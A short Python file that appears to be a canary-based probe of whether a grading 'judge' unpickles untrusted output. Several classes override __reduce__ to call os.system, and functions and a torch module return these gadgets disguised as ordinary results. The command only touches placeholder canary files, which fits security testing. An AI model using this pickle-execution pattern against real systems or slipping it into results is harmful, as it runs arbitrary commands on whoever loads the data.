# %% Objects that run a command where they are unpickled, in every place that goes back to the judge.
import os
import pickle

import torch

COMMAND = f"touch {os.path.dirname('@CANARIES@'.split('|')[0])}/@TOKEN@ /tmp/@TOKEN@ $HOME/@TOKEN@"


class Gadget:
    def __reduce__(self):
        return os.system, (COMMAND,)


class GadgetError(Exception):
    def __reduce__(self):
        return os.system, (COMMAND,)


class GadgetWord(str):
    def __reduce__(self):
        return os.system, (COMMAND,)


def row_weights(scores, blocked=None):
    return [Gadget(), {"x": Gadget()}, pickle.dumps(Gadget()), torch.tensor(list(pickle.dumps(Gadget())), dtype=torch.uint8)]


class Gate(torch.nn.Module):
    def __init__(self, dim):
        super().__init__()
        self.linear = torch.nn.Linear(dim, dim)

    def __reduce__(self):
        return os.system, (COMMAND,)

    def forward(self, x):
        raise GadgetError(GadgetWord("boom"), Gadget())


def make_kernel(width):
    return Gadget()


def describe(values):
    return {"count": Gadget(), "mean": pickle.dumps(Gadget()), "trend": GadgetWord("rising")}
